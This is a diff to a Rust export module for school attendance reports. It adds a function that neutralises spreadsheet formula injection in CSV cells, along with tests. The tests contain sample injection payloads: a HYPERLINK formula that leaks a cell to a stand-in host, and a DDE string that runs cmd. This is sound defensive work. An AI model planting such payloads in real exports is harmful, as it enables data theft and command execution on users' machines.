@@ -2,6 +2,12 @@
 //! a BOM (Excel opens Japanese correctly) or in Shift_JIS (what many school
 //! records systems still read), and JSON. Only active reports are exported:
 //! replaced and cancelled ones are history, not attendance.
+//!
+//! A CSV is opened in a spreadsheet, which runs any cell that looks like a
+//! formula: a roster name such as `=HYPERLINK(…)` or a forged caller id
+//! would run on the office's PC. So every CSV cell a spreadsheet would read
+//! as a formula, or as a number it would mangle, is written with a leading
+//! `'` ([`defuse`]); the JSON stays exact.
 
 use serde::Serialize;
 
@@ -120,7 +126,7 @@ pub fn to_csv(rows: &[ExportRow], encoding: Encoding) -> Vec<u8> {
         for e in rows {
             let r = &e.report;
             let opt = |v: &Option<String>| v.clone().unwrap_or_default();
-            w.write_record([
+            w.write_record(defused([
                 r.reference.to_string(),
                 r.school_day.clone(),
                 r.received_at.clone(),
@@ -144,7 +150,7 @@ pub fn to_csv(rows: &[ExportRow], encoding: Encoding) -> Vec<u8> {
                 opt(&r.caller),
                 r.call_sid.clone(),
                 opt(&e.name),
-            ])
+            ]))
             .expect("write to Vec");
         }
         w.flush().expect("write to Vec");
@@ -154,6 +160,33 @@ pub fn to_csv(rows: &[ExportRow], encoding: Encoding) -> Vec<u8> {
         Encoding::Utf8Bom => [b"\xEF\xBB\xBF".as_slice(), text.as_bytes()].concat(),
         Encoding::ShiftJis => shift_jis(&text),
     }
+}
+
+/// A cell as a spreadsheet must see it: as text, never as a formula.
+///
+/// A cell starting with a character that can make Excel or LibreOffice
+/// read a formula (`=`, `+`, `-`, `@`, and tab, carriage return or NUL, as
+/// OWASP and ASVS list them; a line feed too) gets a leading `'`. So does a number that would
+/// lose its leading zero (student `01234`, a national caller number). The
+/// caller `+819012345678` is then `'+819012345678`: the whole number, as
+/// text, where a spreadsheet would otherwise show `8.19012E+11`. A cell
+/// that already starts with `'` gets one more, so that a records system
+/// recovers every value exactly by removing one leading `'` where there is
+/// one.
+pub fn defuse(cell: String) -> String {
+    let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\0', '\'']);
+    let leading_zero =
+        cell.len() > 1 && cell.starts_with('0') && cell.bytes().all(|b| b.is_ascii_digit());
+    if formula || leading_zero {
+        format!("'{cell}")
+    } else {
+        cell
+    }
+}
+
+/// A row's cells, each [`defuse`]d.
+fn defused<const N: usize>(cells: [String; N]) -> [String; N] {
+    cells.map(defuse)
 }
 
 /// Shift_JIS, with `?` for a character it cannot hold (a name in another
@@ -237,5 +270,89 @@ mod tests {
             "unmappable letters become ?: {back}"
         );
         assert!(back.contains("\r\n"));
+    }
+
+    /// The CSV's cells for one row, as a CSV reader gives them back.
+    fn cells(csv: &[u8]) -> Vec<String> {
+        let mut r = csv::Reader::from_reader(csv.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(csv));
+        let row = r.records().next().unwrap().unwrap();
+        row.iter().map(str::to_owned).collect()
+    }
+
+    #[test]
+    fn formulas_and_leading_zeros_are_written_as_text_in_both_csvs_and_exact_in_json() {
+        let mut e = row("absence", "illness");
+        e.name = Some(r#"=HYPERLINK("http://x.example/?leak="&A1,"y")"#.into());
+        e.report.student = Some("01234".into());
+        e.report.recording_url = Some("@SUM(1+1)*cmd|' /C calc'!A0".into());
+        e.report.time = Some("-2+3".into());
+        e.report.channel = "\t=1+1".into();
+        let col = |name: &str| CSV_COLUMNS.iter().position(|c| *c == name).unwrap();
+        for encoding in [Encoding::Utf8Bom, Encoding::ShiftJis] {
+            let csv = to_csv(std::slice::from_ref(&e), encoding);
+            let text = match encoding {
+                Encoding::Utf8Bom => String::from_utf8(csv).unwrap(),
+                Encoding::ShiftJis => encoding_rs::SHIFT_JIS.decode(&csv).0.into_owned(),
+            };
+            let c = cells(text.as_bytes());
+            assert_eq!(
+                c[col("name")],
+                r#"'=HYPERLINK("http://x.example/?leak="&A1,"y")"#
+            );
+            assert_eq!(c[col("caller")], "'+819012345678");
+            assert_eq!(c[col("student")], "'01234");
+            assert_eq!(c[col("recording_url")], "'@SUM(1+1)*cmd|' /C calc'!A0");
+            assert_eq!(c[col("time")], "'-2+3");
+            assert_eq!(c[col("channel")], "'\t=1+1");
+            assert_eq!(c[col("reference")], "7", "numbers stay numbers");
+            assert_eq!(c[col("temperature")], "38.5");
+            assert_eq!(c[col("school_day")], "2026-11-25");
+        }
+        let json: serde_json::Value = serde_json::from_str(&to_json(&[e])).unwrap();
+        assert_eq!(
+            json[0]["name"],
+            r#"=HYPERLINK("http://x.example/?leak="&A1,"y")"#
+        );
+        assert_eq!(json[0]["caller"], "+819012345678");
+        assert_eq!(json[0]["student"], "01234");
+    }
+
+    #[test]
+    fn removing_one_leading_apostrophe_gives_back_every_value() {
+        for v in [
+            "",
+            "0",
+            "01234",
+            "10203",
+            "+819012345678",
+            "0312345678",
+            "-",
+            "=1+1",
+            "@a",
+            "'",
+            "'=1+1",
+            "''x",
+            "山田 花子",
+            "\r=1",
+            "\n",
+            "\0x",
+            "38.5",
+            "a=b",
+        ] {
+            let d = defuse(v.to_owned());
+            let back = d.strip_prefix('\'').unwrap_or(&d);
+            assert_eq!(back, v, "{d:?}");
+            let first = d.chars().next();
+            assert!(
+                !matches!(
+                    first,
+                    Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '\0')
+                ),
+                "{v:?} became {d:?}"
+            );
+        }
+        assert_eq!(defuse("10203".into()), "10203", "no zero to lose");
+        assert_eq!(defuse("0".into()), "0");
+        assert_eq!(defuse("Santos, Maria".into()), "Santos, Maria");
     }
 }
